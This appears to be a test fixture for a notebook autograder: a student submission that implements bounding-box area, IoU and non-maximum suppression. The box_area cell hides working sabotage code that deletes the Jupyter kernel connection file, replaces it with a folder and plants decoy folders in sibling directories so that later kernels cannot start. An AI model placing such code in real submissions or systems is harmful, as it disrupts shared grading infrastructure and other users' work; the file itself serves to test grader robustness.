# Attacks later kernels through the kernel's runtime folder (correct code otherwise, full marks): it
# replaces its connection file by a folder (jupyter cannot write a connection file there, so no later
# kernel of the same grading process could start), fills the folder with decoys, and plants the same in
# every sibling folder it can see. Every later student must be graded as without this submission.

# -- cell: box_area --
import os, sys

_conn = sys.argv[sys.argv.index("-f") + 1]
_folder = os.path.dirname(_conn)
os.remove(_conn)
os.mkdir(_conn)
for _i in range(1, 12):
    if not os.path.lexists(os.path.join(_folder, f"kernel-{_i}")):  # (1-5 are this kernel's own sockets)
        os.mkdir(os.path.join(_folder, f"kernel-{_i}"))
for _sib in os.listdir(os.path.dirname(_folder)):
    _path = os.path.join(os.path.dirname(_folder), _sib)
    if os.path.isdir(_path) and _path != _folder:
        try:
            os.makedirs(os.path.join(_path, "kernel.json"), exist_ok=True)
        except OSError:
            pass


def box_area(boxes):
    return (boxes[:, 2] - boxes[:, 0]) * (boxes[:, 3] - boxes[:, 1])

# -- cell: box_iou --
def box_iou(boxes1, boxes2):
    b1, b2 = boxes1.float(), boxes2.float()
    x1 = torch.maximum(b1[:, None, 0], b2[None, :, 0])
    y1 = torch.maximum(b1[:, None, 1], b2[None, :, 1])
    x2 = torch.minimum(b1[:, None, 2], b2[None, :, 2])
    y2 = torch.minimum(b1[:, None, 3], b2[None, :, 3])
    inter = (x2 - x1).clamp(min=0) * (y2 - y1).clamp(min=0)
    area1 = (b1[:, 2] - b1[:, 0]) * (b1[:, 3] - b1[:, 1])
    area2 = (b2[:, 2] - b2[:, 0]) * (b2[:, 3] - b2[:, 1])
    union = area1[:, None] + area2[None, :] - inter
    return torch.where(union > 0, inter / union.clamp(min=1e-12), torch.zeros_like(inter))

# -- cell: nms --
def nms(boxes, scores, iou_threshold):
    order = scores.argsort(descending=True)
    iou = box_iou(boxes, boxes)
    alive = torch.ones(len(boxes), dtype=torch.bool)
    keep = []
    for i in order.tolist():
        if alive[i]:
            keep.append(i)
            alive &= iou[i] <= iou_threshold
    return torch.tensor(keep, dtype=torch.int64)

# -- cell: batched_nms --
def batched_nms(boxes, scores, idxs, iou_threshold):
    keep = []
    for c in idxs.unique().tolist():
        members = (idxs == c).nonzero().flatten()
        keep.append(members[nms(boxes[members], scores[members], iou_threshold)])
    if not keep:
        return torch.zeros(0, dtype=torch.int64)
    keep = torch.cat(keep)
    return keep[scores[keep].argsort(descending=True)]
